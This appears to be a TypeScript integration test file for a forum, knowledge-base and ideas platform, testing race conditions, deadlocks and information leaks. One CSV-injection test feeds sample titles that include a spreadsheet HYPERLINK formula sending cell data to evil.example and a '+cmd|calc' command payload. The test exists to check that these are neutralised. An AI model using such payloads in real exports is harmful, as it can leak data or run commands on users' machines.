import { AddressInfo } from 'node:net';
import { io, Socket } from 'socket.io-client';
import { OutboxWorker } from '../../libs/core/src/outbox/outbox';
import { makeBoard, makeSpace, makeUser, TestUser } from '../factories';
import { createTopic, reply } from '../factories/forum';
import { draftArticle, kb, publishedArticle, topicOf } from '../factories/knowledge';
import { hashPassword } from '../../libs/identity/src/auth/auth.service';
import { freshIp } from '../support/fresh-ip';
import { bootTestApp, expectError, expectOk, GqlResult, TestApp } from '../support/test-app';
import { POST_MOVED, PostsService } from '../../libs/forum/src/posts/posts.service';
import { TopicsService } from '../../libs/forum/src/topics/topics.service';
import { AuditLog } from '../../libs/core/src/audit/audit-log';
import { TopicTimersService } from '../../libs/forum/src/timers/topic-timers.service';
import { countDeadlocks } from '../support/deadlocks';
import { gateCalls } from '../support/gates';
import { holdLock } from '../support/row-locks';
import { backendPid, behindAGate, doneOrWaiting, gateHolder, waitForLockWaits } from '../support/lock-waits';

const VOTE = `mutation($id: ID!) { voteIdea(topicId: $id) { id idea { voteCount } } }`;
const SET_STATUS = `mutation($input: SetIdeaStatusInput!) { setIdeaStatus(input: $input) { id idea { status } } }`;
const MERGE = `mutation($input: MergeIdeaInput!) { mergeIdea(input: $input) { id } }`;
const UNMERGE = `mutation($id: ID!) { unmergeIdea(topicId: $id) { id idea { status } } }`;
const IDEA = `query($id: ID!) { topic(id: $id) { id idea { status statusHistory { from to } } } }`;
const MOVE_TOPIC = `mutation($input: MoveTopicInput!) { moveTopic(input: $input) { id } }`;

describe('races and leaks found in review', () => {
  let t: TestApp;
  let moderator: TestUser;
  let admin: TestUser;
  let space: { id: string };
  const sockets: Socket[] = [];
  const drain = () => t.get(OutboxWorker).drain();

  beforeAll(async () => {
    t = await bootTestApp();
    moderator = await makeUser(t);
    admin = await makeUser(t);
    space = await makeSpace(t, 'PUBLIC', [{ userId: moderator.id, level: 'MODERATE' }, { userId: admin.id, level: 'ADMIN' }]);
  });
  afterAll(async () => {
    for (const s of sockets) s.disconnect();
    await t.close();
  });

  it('ideas: racing votes on different ideas cannot exceed the board’s vote budget', async () => {
    const board = await makeBoard(t, space.id, 'IDEAS');
    await t.sql(`UPDATE boards SET settings = jsonb_build_object('ideas', jsonb_build_object('voteBudget', 1)) WHERE id = $1`, [board]);
    const author = await makeUser(t);
    const ids: string[] = [];
    for (let i = 0; i < 6; i++) ids.push((await createTopic(t, author.token, board, { title: `Budget idea ${i}`, body: 'x' })).id);
    const voter = await makeUser(t);
    await Promise.all(ids.map((id) => t.gql(VOTE, { id }, { token: voter.token })));
    const [{ n }] = await t.sql(`SELECT count(*)::int AS n FROM idea_votes WHERE user_id = $1`, [voter.id]);
    expect(n).toBeLessThanOrEqual(1);
  });

  it('ideas: two racing unmerges do not lose the restored status (the second is refused)', async () => {
    const board = await makeBoard(t, space.id, 'IDEAS');
    const author = await makeUser(t);
    for (let attempt = 0; attempt < 3; attempt++) {
      const source = (await createTopic(t, author.token, board, { title: `Unmerge source ${attempt}`, body: 'x' })).id;
      const target = (await createTopic(t, author.token, board, { title: `Unmerge target ${attempt}`, body: 'x' })).id;
      expectOk(await t.gql(SET_STATUS, { input: { topicId: source, status: 'PLANNED' } }, { token: moderator.token }));
      expectOk(await t.gql(MERGE, { input: { sourceId: source, targetId: target } }, { token: moderator.token }));
      const results = await Promise.all([t.gql(UNMERGE, { id: source }, { token: admin.token }), t.gql(UNMERGE, { id: source }, { token: admin.token })]);
      const idea = expectOk(await t.gql(IDEA, { id: source }, { token: admin.token })).topic.idea;
      expect({ attempt, status: idea.status, errors: results.filter((r) => r.errors).length, history: idea.statusHistory.length }).toEqual({
        attempt, status: 'PLANNED', errors: 1, history: 3,
      });
    }
  });

  it('ideas: ideasCsv neutralises spreadsheet formulas in idea titles (CSV injection)', async () => {
    const board = await makeBoard(t, space.id, 'IDEAS');
    const author = await makeUser(t);
    await createTopic(t, author.token, board, { title: '=HYPERLINK("http://evil.example/?x="&A1,"click")', body: 'x' });
    await createTopic(t, author.token, board, { title: '+cmd|calc', body: 'x' });
    const csv: string = expectOk(await t.gql(`query($id: ID!) { ideasCsv(boardId: $id) }`, { id: board }, { token: moderator.token })).ideasCsv;
    const titles = csv.trim().split('\r\n').slice(1).map((line) => line.split(',')[1]);
    for (const title of titles) expect(title.replace(/^"/, '')).not.toMatch(/^[=+\-@]/);
  });

  it('live: moving a draft (or any hidden/pending topic) does not tell its old board’s room about it', async () => {
    const kbA = await makeBoard(t, space.id, 'KNOWLEDGE');
    const kbB = await makeBoard(t, space.id, 'KNOWLEDGE');
    const reader = await makeUser(t);
    const port = (t.http.address() as AddressInfo).port;
    const s = io(`http://127.0.0.1:${port}`, { auth: { token: reader.token }, transports: ['websocket'] });
    sockets.push(s);
    await new Promise<void>((resolve) => s.on('connect', () => resolve()));
    expect(await s.timeout(5000).emitWithAck('board:join', { boardId: kbA })).toEqual({ ok: true });
    const received: unknown[] = [];
    s.on('topic:moved', (p: unknown) => received.push(p));
    const draft = await draftArticle(t, moderator.token, kbA, { title: 'Secret reorg plan', body: 'not yet' });
    expectError(await kb(t).get(reader.token, draft), 'NOT_FOUND');
    expectOk(await t.gql(MOVE_TOPIC, { input: { topicId: draft, boardId: kbB } }, { token: moderator.token }));
    await new Promise((r) => setTimeout(r, 1000));
    expect(received).toEqual([]);
  });

  it('knowledge: a reader cannot learn that a draft exists from a published article’s slug or position', async () => {
    const board = await makeBoard(t, space.id, 'KNOWLEDGE');
    const author = await makeUser(t);
    const reader = await makeUser(t);
    await draftArticle(t, moderator.token, board, { title: 'Salary bands', body: 'draft, never published' });
    const published = await publishedArticle(t, author.token, moderator.token, board, { title: 'Salary bands', body: 'public' });
    const seen = topicOf(await t.gql(`query($id: ID!) { topic(id: $id) { article { slug position } } }`, { id: published }, { token: reader.token })).article;
    const tree = expectOk(await t.gql(`query($id: ID!) { board(id: $id) { articleTree { topic { id } } } }`, { id: board }, { token: reader.token })).board.articleTree;
    expect(tree).toEqual([{ topic: { id: published } }]); // the tree hides the draft…
    expect(seen).toEqual({ slug: 'salary-bands', position: null }); // …and neither a "-2" slug nor a gap in positions reveals it
  });

  it('knowledge: Space.knowledgeSettings costs one statement per space (N+1)', async () => {
    const Q = `{ spaces { id knowledgeSettings { twoPersonReview } } }`;
    const base = await t.countStatements(() => t.gql(Q));
    for (let i = 0; i < 5; i++) await makeSpace(t, 'PUBLIC');
    const more = await t.countStatements(() => t.gql(Q));
    expect(more.count).toBe(base.count);
  });

  it('knowledge: publishing (row lock, then board lock) racing moveArticle (board lock, then row lock) does not deadlock', async () => {
    const board = await makeBoard(t, space.id, 'KNOWLEDGE');
    const api = kb(t);
    const failures: unknown[] = [];
    for (let i = 0; i < 8; i++) {
      const id = await publishedArticle(t, moderator.token, moderator.token, board, { title: `Deadlock ${i}`, body: 'v1' });
      topicOf(await api.update(moderator.token, { topicId: id, title: `Renamed article ${i}` }));
      const [pub, mv] = await Promise.all([api.publish(moderator.token, id), api.move(moderator.token, { topicId: id, position: 0 })]);
      for (const r of [pub, mv]) if (r.errors) failures.push(r.errors[0].extensions.code);
    }
    expect(failures).toEqual([]);
  });

  it('knowledge: with two-person review, an edit made while in review is not published unreviewed', async () => {
    const s2 = await makeSpace(t, 'PUBLIC', [{ userId: moderator.id, level: 'MODERATE' }, { userId: admin.id, level: 'ADMIN' }]);
    await t.sql(`UPDATE spaces SET knowledge = '{"twoPersonReview": true}' WHERE id = $1`, [s2.id]);
    const board = await makeBoard(t, s2.id, 'KNOWLEDGE');
    const author = await makeUser(t);
    const api = kb(t);
    const id = await draftArticle(t, author.token, board, { title: 'Reviewed text', body: 'reviewed body' });
    topicOf(await api.submit(author.token, id));
    // After submitting, the author swaps the body: the article is a draft again, and nobody
    // publishes the unreviewed body without it being submitted (and reviewed) anew.
    const after = topicOf(await api.update(author.token, { topicId: id, body: 'UNREVIEWED body' }));
    expect(after.article.state).toBe('DRAFT');
    expectError(await api.publish(admin.token, id), 'BAD_USER_INPUT');
    const [{ n }] = await t.sql(`SELECT count(*)::int AS n FROM article_revisions WHERE topic_id = $1 AND published_at IS NOT NULL`, [id]);
    expect(n).toBe(0);
  });

  it('knowledge: two racing promotions of one post into one board make one article (the second is refused)', async () => {
    const forum = await makeBoard(t, space.id);
    const board = await makeBoard(t, space.id, 'KNOWLEDGE');
    const asker = await makeUser(t);
    const question = await createTopic(t, asker.token, forum, { title: 'How do I bleed a radiator?', kind: 'QUESTION' });
    const api = kb(t);
    for (let attempt = 0; attempt < 3; attempt++) {
      const answer = await reply(t, asker.token, question.id, `Open the valve a quarter turn (${attempt})`);
      const results = await Promise.all([0, 1, 2].map((i) => api.promote(moderator.token, { postId: answer.id, boardId: board, title: `Bleeding radiators ${attempt} ${i}` })));
      const [{ n }] = await t.sql(`SELECT count(*)::int AS n FROM articles WHERE promoted_from_post_id = $1 AND board_id = $2`, [answer.id, board]);
      const refused = results.filter((r) => r.errors).map((r) => r.errors![0].extensions.fields?.[0]?.message);
      expect({ attempt, n, refused }).toEqual({ attempt, n: 1, refused: ['is already an article of this board', 'is already an article of this board'] });
    }
  });

  it('knowledge: an editor who submitted an article (without writing a revision) hears that changes were requested', async () => {
    const board = await makeBoard(t, space.id, 'KNOWLEDGE');
    const author = await makeUser(t);
    const api = kb(t);
    const id = await draftArticle(t, author.token, board, { title: 'Onboarding checklist', body: 'step one' });
    topicOf(await api.submit(moderator.token, id)); // the moderator submits the author's draft…
    topicOf(await api.requestChanges(admin.token, id, 'Add step two'));
    await drain();
    const kindsFor = async (userId: string) =>
      (await t.sql(`SELECT kind FROM notifications WHERE user_id = $1 AND topic_id = $2`, [userId, id])).map((r) => r.kind);
    expect(await kindsFor(moderator.id)).toContain('ARTICLE_CHANGES_REQUESTED'); // …and hears back, as the author does
    expect(await kindsFor(author.id)).toContain('ARTICLE_CHANGES_REQUESTED');
  });

  it('ideas: an idea is not merged into a target that was hidden while the merge waited for its locks', async () => {
    const board = await makeBoard(t, space.id, 'IDEAS');
    const author = await makeUser(t);
    const source = (await createTopic(t, author.token, board, { title: 'Dark mode please', body: 'x' })).id;
    const target = (await createTopic(t, author.token, board, { title: 'Dark theme', body: 'x' })).id;
    // Hidden before the merge: refused up front (the moderator still sees the target).
    await t.sql(`UPDATE topics SET state = 'HIDDEN' WHERE id = $1`, [target]);
    expectError(await t.gql(MERGE, { input: { sourceId: source, targetId: target } }, { token: moderator.token }), 'BAD_USER_INPUT');
    await t.sql(`UPDATE topics SET state = 'VISIBLE' WHERE id = $1`, [target]);
    // Hidden while the merge waits for the ideas' row locks (held here), after its first check passed.
    const holder = t.ds.createQueryRunner();
    await holder.connect();
    try {
      await holder.startTransaction();
      await holder.query(`SELECT 1 FROM ideas WHERE topic_id = ANY($1::uuid[]) FOR UPDATE`, [[source, target]]);
      const merging = t.gql(MERGE, { input: { sourceId: source, targetId: target } }, { token: moderator.token });
      await waitForLockWaits(t, 1, await backendPid(holder));
      await holder.query(`UPDATE topics SET state = 'HIDDEN' WHERE id = $1`, [target]);
      await holder.commitTransaction();
      expectError(await merging, 'BAD_USER_INPUT');
    } finally {
      await holder.release();
    }
    const [{ status }] = await t.sql(`SELECT status FROM ideas WHERE topic_id = $1`, [source]);
    expect(status).not.toBe('MERGED');
  });

  /**
   * Runs `request` while another transaction that ran `statements` holds their rows, waits
   * until the request waits on a lock (failing if it never does), then commits that transaction.
   */
  async function racing(statements: Array<[string, unknown[]]>, request: () => Promise<any>) {
    const holder = t.ds.createQueryRunner();
    await holder.connect();
    try {
      await holder.startTransaction();
      for (const [text, params] of statements) await holder.query(text, params);
      const answer = request();
      await waitForLockWaits(t, 1, await backendPid(holder));
      await holder.commitTransaction();
      return await answer;
    } finally {
      await holder.release();
    }
  }

  /** Runs `request` while a move of the topic (as moveTopic writes it) holds its row, then commits the move. */
  const racingMove = (topicId: string, to: { board: string; space: string }, request: () => Promise<any>) =>
    racing(
      [
        [`UPDATE topics SET board_id = $2, space_id = $3 WHERE id = $1`, [topicId, to.board, to.space]],
        [`UPDATE posts SET space_id = $2 WHERE topic_id = $1`, [topicId, to.space]],
        [`UPDATE review_items SET space_id = $2 WHERE status = 'PENDING' AND target_type = 'TOPIC' AND target_id = $1`, [topicId, to.space]],
      ],
      request,
    );

  it('forum: a move that waited on another move is refused, not applied from where the topic was', async () => {
    const from = await makeBoard(t, space.id);
    const sameSpace = await makeBoard(t, space.id);
    const elsewhere = await makeSpace(t, 'PUBLIC', [{ userId: admin.id, level: 'ADMIN' }]);
    const to = { board: await makeBoard(t, elsewhere.id), space: elsewhere.id };
    const topic = await createTopic(t, (await makeUser(t)).token, from, { title: 'Moved twice at once', body: 'x' });
    const move = () => t.gql(MOVE_TOPIC, { input: { topicId: topic.id, boardId: sameSpace } }, { token: admin.token });
    expectError(await racingMove(topic.id, to, move), 'CONFLICT');
    // Its posts are where it is.
    expect(await t.sql(`SELECT DISTINCT t.space_id = p.space_id AS together FROM topics t JOIN posts p ON p.topic_id = t.id WHERE t.id = $1`, [topic.id])).toEqual([{ together: true }]);
  });

  it('ideas: an idea is not merged with one that moved to another space while the merge waited', async () => {
    const board = await makeBoard(t, space.id, 'IDEAS');
    const elsewhere = await makeSpace(t, 'PUBLIC', [{ userId: moderator.id, level: 'MODERATE' }]);
    const to = { board: await makeBoard(t, elsewhere.id, 'IDEAS'), space: elsewhere.id };
    const author = await makeUser(t);
    const source = (await createTopic(t, author.token, board, { title: 'Export to CSV', body: 'x' })).id;
    const target = (await createTopic(t, author.token, board, { title: 'CSV export', body: 'x' })).id;
    const merge = () => t.gql(MERGE, { input: { sourceId: source, targetId: target } }, { token: moderator.token });
    expectError(await racingMove(target, to, merge), 'BAD_USER_INPUT');
    expect(await t.sql(`SELECT status, merged_into FROM ideas WHERE topic_id = $1`, [source])).toEqual([{ status: 'NEW', merged_into: null }]);
  });

  it('knowledge: an article is not put under a parent archived, or moved to another board, while it waited', async () => {
    const board = await makeBoard(t, space.id, 'KNOWLEDGE');
    const other = await makeBoard(t, space.id, 'KNOWLEDGE');
    const api = kb(t);
    // Created under a parent archived meanwhile.
    const archived = await publishedArticle(t, moderator.token, moderator.token, board, { title: 'Soon archived' });
    const create = () => api.create(moderator.token, board, { title: 'Child of the archived', parentId: archived });
    expectError(await racing([[`UPDATE articles SET state = 'ARCHIVED' WHERE topic_id = $1`, [archived]]], create), 'BAD_USER_INPUT');
    expect(await t.sql(`SELECT 1 FROM articles WHERE parent_id = $1`, [archived])).toEqual([]);
    // Moved under a parent that moved to another board meanwhile.
    const leaving = await publishedArticle(t, moderator.token, moderator.token, board, { title: 'Soon elsewhere' });
    const child = await publishedArticle(t, moderator.token, moderator.token, board, { title: 'Would follow' });
    const move = () => api.move(moderator.token, { topicId: child, parentId: leaving });
    const away: Array<[string, unknown[]]> = [
      [`UPDATE topics SET board_id = $2 WHERE id = $1`, [leaving, other]],
      [`UPDATE articles SET board_id = $2, parent_id = NULL WHERE topic_id = $1`, [leaving, other]],
    ];
    expectError(await racing(away, move), 'BAD_USER_INPUT');
    expect(await t.sql(`SELECT parent_id FROM articles WHERE topic_id = $1`, [child])).toEqual([{ parent_id: null }]);
  });

  it('identity: a sign-in with the old password, racing a password change, leaves no session open', async () => {
    const member = await makeUser(t, { passwordHash: await hashPassword('the old password') });
    const signIn = () => t.gql(`mutation($i: SignInInput!) { signIn(input: $i) { token } }`, { i: { login: member.handle, password: 'the old password' } }, { ip: freshIp() });
    // The change as changePassword writes it: the new hash, and every session signed out.
    const change: Array<[string, unknown[]]> = [
      [`UPDATE users SET password_hash = $2 WHERE id = $1`, [member.id, await hashPassword('the new password')]],
      [`UPDATE sessions SET revoked_at = now() WHERE user_id = $1 AND revoked_at IS NULL`, [member.id]],
    ];
    expectError(await racing(change, signIn), 'UNAUTHENTICATED');
    expect(await t.sql(`SELECT 1 FROM sessions WHERE user_id = $1 AND revoked_at IS NULL`, [member.id])).toEqual([]);
  });

  it('forum: a reply or report that waited on a topic moved meanwhile is refused, not left in the old space', async () => {
    const from = await makeBoard(t, space.id);
    const elsewhere = await makeSpace(t, 'PUBLIC', [{ userId: moderator.id, level: 'MODERATE' }]);
    const to = { board: await makeBoard(t, elsewhere.id), space: elsewhere.id };
    const author = await makeUser(t);
    const reporter = await makeUser(t);
    const replied = await createTopic(t, author.token, from, { title: 'About to move', body: 'x' });
    const reply = () => t.gql(`mutation($input: ReplyInput!) { replyToTopic(input: $input) { id } }`, { input: { topicId: replied.id, body: 'racing the move' } }, { token: author.token });
    expectError(await racingMove(replied.id, to, reply), 'CONFLICT');
    expect(await t.sql(`SELECT DISTINCT space_id FROM posts WHERE topic_id = $1`, [replied.id])).toEqual([{ space_id: elsewhere.id }]);

    const reported = await createTopic(t, author.token, from, { title: 'Reported, then moved', body: 'x' });
    const report = () => t.gql(`mutation($input: ReportInput!) { report(input: $input) { id } }`, { input: { targetType: 'TOPIC', targetId: reported.id, reason: 'OFF_TOPIC' } }, { token: reporter.token });
    expectError(await racingMove(reported.id, to, report), 'CONFLICT');
    expect(await t.sql(`SELECT space_id FROM review_items WHERE target_id = $1`, [reported.id])).toEqual([]);
    expectOk(await report());
    expect(await t.sql(`SELECT space_id FROM review_items WHERE target_id = $1`, [reported.id])).toEqual([{ space_id: elsewhere.id }]);
  });

  it('moderation: parallel reports that auto-hide a post all go through (no lock taken in the wrong order)', async () => {
    const low = await makeSpace(t, 'PUBLIC');
    await t.sql(`UPDATE spaces SET moderation = '{"autoHideThreshold": 1}' WHERE id = $1`, [low.id]);
    const board = await makeBoard(t, low.id);
    const author = await makeUser(t);
    const reporters = [await makeUser(t), await makeUser(t), await makeUser(t)];
    const REPORT = `mutation($input: ReportInput!) { report(input: $input) { id } }`;
    const codes: string[] = [];
    for (let round = 0; round < 6; round++) {
      const topic = await createTopic(t, author.token, board, { title: `Reported all at once ${round}`, body: 'x' });
      const answers = await Promise.all(reporters.map((r) => t.gql(REPORT, { input: { targetType: 'TOPIC', targetId: topic.id, reason: 'OFF_TOPIC' } }, { token: r.token })));
      codes.push(...answers.map((a) => a.errors?.[0]?.extensions.code ?? 'OK'));
      expect(await t.sql(`SELECT state FROM posts WHERE id = $1`, [topic.firstPostId])).toEqual([{ state: 'HIDDEN' }]);
    }
    // A report that arrives after the hide finds nothing to report (NOT_FOUND); none may fail otherwise.
    expect(codes.filter((c) => c !== 'OK' && c !== 'NOT_FOUND')).toEqual([]);
  });

  /** Runs `race`, counting the transactions PostgreSQL aborted as a deadlock's victim meanwhile. */
  async function countingDeadlocks(race: () => Promise<void>): Promise<number> {
    const deadlocks = countDeadlocks(t);
    try {
      await race();
    } finally {
      deadlocks.restore();
    }
    return deadlocks.count;
  }

  describe('forum: moving a topic across spaces racing a moderation or a reaction on one of its posts', () => {
    const MODERATE = `mutation($input: ModeratePostInput!) { moderatePost(input: $input) { state } }`;
    const REACT = `mutation($input: ReactionInput!) { react(input: $input) { reactions { kind count } } }`;
    let from: string;
    let to: { board: string; space: string };
    let author: TestUser;
    let reader: TestUser;
    beforeAll(async () => {
      from = await makeBoard(t, space.id);
      const elsewhere = await makeSpace(t, 'PUBLIC', [{ userId: admin.id, level: 'ADMIN' }]);
      to = { board: await makeBoard(t, elsewhere.id), space: elsewhere.id };
      author = await makeUser(t);
      reader = await makeUser(t);
    });
    const move = (topicId: string, boardId = to.board) => t.gql(MOVE_TOPIC, { input: { topicId, boardId } }, { token: admin.token });

    it('a reply hidden while the topic moves: both done, no deadlock', async () => {
      const topic = await createTopic(t, author.token, from, { title: 'Moved as a reply is hidden', body: 'x' });
      const hidden = await reply(t, author.token, topic.id, 'soon hidden');
      const running: Array<Promise<unknown>> = [];
      // The moderation held once it holds its locks, before it writes the post's new state and the topic's counters.
      const gate = gateCalls(t.get(PostsService), 'applyState', (_tx: unknown, _actor: unknown, post: { id: string }) => post.id === hidden.id);
      const deadlocks = await countingDeadlocks(async () => {
        try {
          const hiding = t.gql(MODERATE, { input: { postId: hidden.id, action: 'HIDE' } }, { token: moderator.token });
          running.push(hiding);
          await gate.begun;
          const moving = move(topic.id);
          running.push(moving);
          await waitForLockWaits(t, 1, await gateHolder(gate));
          gate.open();
          expect(expectOk(await hiding).moderatePost.state).toBe('HIDDEN');
          expectOk(await moving);
        } finally {
          gate.restore();
          await Promise.allSettled(running);
        }
      });
      expect(deadlocks).toBe(0);
      expect(await t.sql(`SELECT p.state, p.space_id, t.reply_count FROM posts p JOIN topics t ON t.id = p.topic_id WHERE p.id = $1`, [hidden.id])).toEqual([
        { state: 'HIDDEN', space_id: to.space, reply_count: 0 },
      ]);
    });

    it('an answer accepted while the topic moves: both done, no deadlock', async () => {
      const ACCEPT = `mutation($id: ID!) { acceptAnswer(postId: $id) { id } }`;
      // Tagged, so its move updates the tags' counters, whose table the test holds: the move is
      // held there with the topic's row locked, before it rewrites its posts.
      const topic = await createTopic(t, author.token, from, { title: 'Moved as its answer is accepted', body: 'x', kind: 'QUESTION', tags: ['held-move'] });
      const answer = await reply(t, reader.token, topic.id, 'the answer');
      const running: Array<Promise<unknown>> = [];
      const table = await holdLock(t, `LOCK TABLE space_tags IN SHARE MODE`, []);
      const deadlocks = await countingDeadlocks(async () => {
        try {
          const moving = move(topic.id);
          running.push(moving);
          await table.waiting(1);
          const accepting = t.gql(ACCEPT, { id: answer.id }, { token: author.token });
          running.push(accepting);
          await table.waiting(2);
          await table.release();
          expectOk(await moving);
          expectOk(await accepting);
        } finally {
          await table.release();
          await Promise.allSettled(running);
        }
      });
      expect(deadlocks).toBe(0);
      expect(await t.sql(`SELECT space_id, accepted_post_id FROM topics WHERE id = $1`, [topic.id])).toEqual([{ space_id: to.space, accepted_post_id: answer.id }]);
    });

    it('two moderators accepting answers at once: the second one’s log entry names the answer the first accepted as its before', async () => {
      const ACCEPT = `mutation($id: ID!) { acceptAnswer(postId: $id) { id } }`;
      const topic = await createTopic(t, author.token, from, { title: 'Two answers accepted at once', body: 'x', kind: 'QUESTION' });
      const first = await reply(t, reader.token, topic.id, 'the first answer');
      const second = await reply(t, reader.token, topic.id, 'the second answer');
      // The first acceptance held once it has written the topic (its row locked), before its log entry.
      const gate = gateCalls(t.get(AuditLog), 'append', (_tx: unknown, e: { targetId: string }) => e.targetId === topic.id);
      const accepted = await behindAGate(
        t,
        gate,
        () => t.gql(ACCEPT, { id: first.id }, { token: moderator.token }),
        () => t.gql(ACCEPT, { id: second.id }, { token: admin.token }),
      );
      expectOk(accepted);
      expect(await t.sql(`SELECT actor_id, before, after FROM moderation_log WHERE target_id = $1 AND action = 'topic.accept_answer' ORDER BY id`, [topic.id])).toEqual([
        { actor_id: moderator.id, before: { acceptedPostId: null }, after: { acceptedPostId: first.id } },
        { actor_id: admin.id, before: { acceptedPostId: first.id }, after: { acceptedPostId: second.id } },
      ]);
    });

    /**
     * Runs `request` on `topicId` while a real moveTopic to `to` (or `boardId`) holds the topic, held once
     * writeMove has written everything (its transaction open, the topic FOR UPDATE): the request
     * read the topic in its old board and space, then waits for the move. Answers its answer.
     */
    const behindARealMove = async (topicId: string, request: () => Promise<GqlResult>, boardId = to.board): Promise<GqlResult> => {
      const gate = gateCalls(t.get(TopicsService), 'writeMove', (_tx: unknown, _actor: unknown, moved: { id: string }) => moved.id === topicId, 'after');
      return behindAGate(t, gate, () => move(topicId, boardId), request);
    };
    const ACCEPT_ANSWER = `mutation($id: ID!) { acceptAnswer(postId: $id) { id } }`;
    const acceptedBehindARealMove = (topicId: string, answerId: string, token: string) => behindARealMove(topicId, () => t.gql(ACCEPT_ANSWER, { id: answerId }, { token }));
    /** The topic.updated events written for `topicId` since outbox id `last`, with the board and space each names. */
    const updatesSince = (last: string, topicId: string) =>
      t.sql(`SELECT payload->>'boardId' AS board, payload->>'spaceId' AS space FROM outbox WHERE id > $1::bigint AND type = 'topic.updated' AND payload->>'topicId' = $2`, [last, topicId]);

    it('an answer accepted while a move holds the topic: its topic.updated names the board and space the move put it in', async () => {
      const topic = await createTopic(t, author.token, from, { title: 'Accepted behind a real move', body: 'x', kind: 'QUESTION' });
      const answer = await reply(t, reader.token, topic.id, 'the answer');
      const [{ last }] = await t.sql(`SELECT coalesce(max(id), 0)::text AS last FROM outbox`);
      expectOk(await acceptedBehindARealMove(topic.id, answer.id, author.token));
      expect(await updatesSince(last, topic.id)).toEqual([{ board: to.board, space: to.space }]);
    });

    it('a topic closed while a move holds it: its topic.updated and log entry name the board and space the move put it in', async () => {
      const topic = await createTopic(t, author.token, from, { title: 'Closed behind a real move', body: 'x' });
      const [{ last }] = await t.sql(`SELECT coalesce(max(id), 0)::text AS last FROM outbox`);
      const STATUS = `mutation($input: TopicStatusInput!) { setTopicStatus(input: $input) { closed } }`;
      expect(expectOk(await behindARealMove(topic.id, () => t.gql(STATUS, { input: { topicId: topic.id, closed: true } }, { token: admin.token }))).setTopicStatus.closed).toBe(true);
      expect(await updatesSince(last, topic.id)).toEqual([{ board: to.board, space: to.space }]);
      expect(await t.sql(`SELECT space_id FROM moderation_log WHERE target_id = $1 AND action = 'topic.status'`, [topic.id])).toEqual([{ space_id: to.space }]);
    });

    it('a reply edited while a move to another board of its space holds its topic: its post.updated names the board the move put it in', async () => {
      // Within its space (a move to another space refuses the edit: CONFLICT, tested below).
      const beside = await makeBoard(t, space.id);
      const topic = await createTopic(t, author.token, from, { title: 'Edited behind a real move', body: 'x' });
      const edited = await reply(t, author.token, topic.id, 'before the edit');
      const [{ last }] = await t.sql(`SELECT coalesce(max(id), 0)::text AS last FROM outbox`);
      const EDIT = `mutation($input: EditPostInput!) { editPost(input: $input) { id } }`;
      expectOk(await behindARealMove(topic.id, () => t.gql(EDIT, { input: { postId: edited.id, body: 'edited while the move held the topic' } }, { token: author.token }), beside));
      expect(
        await t.sql(`SELECT payload->>'boardId' AS board, payload->>'spaceId' AS space FROM outbox WHERE id > $1::bigint AND type = 'post.updated' AND payload->>'postId' = $2`, [last, edited.id]),
      ).toEqual([{ board: beside, space: space.id }]);
    });

    it('a reply deleted while a move holds its topic: its post.deleted names the board and space the move put it in', async () => {
      const topic = await createTopic(t, author.token, from, { title: 'Deleted behind a real move', body: 'x' });
      const deleted = await reply(t, author.token, topic.id, 'soon deleted');
      const [{ last }] = await t.sql(`SELECT coalesce(max(id), 0)::text AS last FROM outbox`);
      const DELETE = `mutation($id: ID!) { deletePost(id: $id) { id } }`;
      expectOk(await behindARealMove(topic.id, () => t.gql(DELETE, { id: deleted.id }, { token: author.token })));
      expect(
        await t.sql(`SELECT payload->>'boardId' AS board, payload->>'spaceId' AS space FROM outbox WHERE id > $1::bigint AND type = 'post.deleted' AND payload->>'postId' = $2`, [last, deleted.id]),
      ).toEqual([{ board: to.board, space: to.space }]);
    });

    it('a topic closed, or slowed, by a moderator of the space a move took it out of while they waited: FORBIDDEN, nothing written', async () => {
      const topic = await createTopic(t, author.token, from, { title: 'Closed by a moderator behind a real move', body: 'x' });
      const STATUS = `mutation($input: TopicStatusInput!) { setTopicStatus(input: $input) { closed } }`;
      const SLOW = `mutation($input: TopicSlowModeInput!) { setTopicSlowMode(input: $input) { slowModeSeconds } }`;
      // moderator moderates the topic's first space, not the one it moves to.
      expectError(await behindARealMove(topic.id, () => t.gql(STATUS, { input: { topicId: topic.id, closed: true } }, { token: moderator.token })), 'FORBIDDEN');
      // Back in its first space, then slowed as it moves again.
      expectOk(await t.gql(MOVE_TOPIC, { input: { topicId: topic.id, boardId: from } }, { token: admin.token }));
      expectError(await behindARealMove(topic.id, () => t.gql(SLOW, { input: { topicId: topic.id, seconds: 60 } }, { token: moderator.token })), 'FORBIDDEN');
      expect(await t.sql(`SELECT space_id, closed, slow_mode_seconds FROM topics WHERE id = $1`, [topic.id])).toEqual([{ space_id: to.space, closed: false, slow_mode_seconds: 0 }]);
      expect(await t.sql(`SELECT action FROM moderation_log WHERE target_id = $1 AND action IN ('topic.status', 'topic.slow_mode')`, [topic.id])).toEqual([]);
    });

    it('an answer accepted for the asker by a moderator of the space a move took the topic out of while it waited: FORBIDDEN, nothing written', async () => {
      const topic = await createTopic(t, author.token, from, { title: 'Accepted by a moderator behind a real move', body: 'x', kind: 'QUESTION' });
      const answer = await reply(t, reader.token, topic.id, 'the answer');
      // moderator moderates the topic's first space, not the one it moves to.
      expectError(await acceptedBehindARealMove(topic.id, answer.id, moderator.token), 'FORBIDDEN');
      expect(await t.sql(`SELECT space_id, accepted_post_id FROM topics WHERE id = $1`, [topic.id])).toEqual([{ space_id: to.space, accepted_post_id: null }]);
      expect(await t.sql(`SELECT action FROM moderation_log WHERE target_id = $1 AND action LIKE 'topic.%accept%'`, [topic.id])).toEqual([]);
    });

    const WIKI = `mutation($id: ID!, $wiki: Boolean!) { setPostWiki(postId: $id, wiki: $wiki) { wiki } }`;
    it('a reply made a wiki while a move holds its topic: its post.updated and log entry name the board and space the move put it in', async () => {
      const topic = await createTopic(t, author.token, from, { title: 'Made a wiki behind a real move', body: 'x' });
      const made = await reply(t, reader.token, topic.id, 'soon a wiki');
      const [{ last }] = await t.sql(`SELECT coalesce(max(id), 0)::text AS last FROM outbox`);
      expect(expectOk(await behindARealMove(topic.id, () => t.gql(WIKI, { id: made.id, wiki: true }, { token: admin.token }))).setPostWiki.wiki).toBe(true);
      expect(
        await t.sql(`SELECT payload->>'boardId' AS board, payload->>'spaceId' AS space FROM outbox WHERE id > $1::bigint AND type = 'post.updated' AND payload->>'postId' = $2`, [last, made.id]),
      ).toEqual([{ board: to.board, space: to.space }]);
      expect(await t.sql(`SELECT space_id FROM moderation_log WHERE target_id = $1 AND action = 'post.wiki'`, [made.id])).toEqual([{ space_id: to.space }]);
    });

    it('a reply made a wiki by a moderator of the space a move took its topic out of while they waited: FORBIDDEN, nothing written', async () => {
